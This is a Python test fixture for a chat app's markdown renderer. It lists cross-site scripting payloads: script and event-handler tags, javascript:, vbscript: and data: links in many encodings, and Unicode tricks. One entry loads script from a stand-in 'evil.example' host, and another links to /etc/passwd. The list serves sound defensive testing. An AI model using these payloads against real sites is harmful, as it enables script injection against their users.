"""Message bodies that try to get script into the page. Shared by the renderer's unit tests
(kiban/chat/tests/test_markdown.py) and the browser test, which posts them and checks nothing runs.

Each entry is a body as a person (or a webhook) could send it."""

from __future__ import annotations

XSS_PAYLOADS: list[str] = [
    # Raw HTML (markdown-it has html off; nh3 would strip it anyway)
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    # Markdown links with unsafe schemes, in every spelling
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click](\\javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "[click](javascript://example.com/%0aalert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    '[click](https://example.com "title" onclick="alert(1)")',
    '[x](https://example.com"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    # Autolinks and bare URLs
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/<img/src=x/onerror=alert(1)>",
    "javascript:alert(1)",
    # Images (not rendered as images at all)
    "![x](javascript:alert(1))",
    '![x](https://example.com/x.png"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # Entity and escaping tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>\n>> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>\n  - [x](javascript:alert(1))",
    "**<img src=x onerror=alert(1)>**",
    "*[x](javascript:alert(1))*",
    # Mentions next to markup
    "@<script>alert(1)</script>",
    '@"><img src=x onerror=alert(1)>',
    "@channel <img src=x onerror=alert(1)>",
    # Unicode tricks
    "[click](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[click](java\u0000script:alert(1))",
    "[click](\u200bjavascript:alert(1))",
]
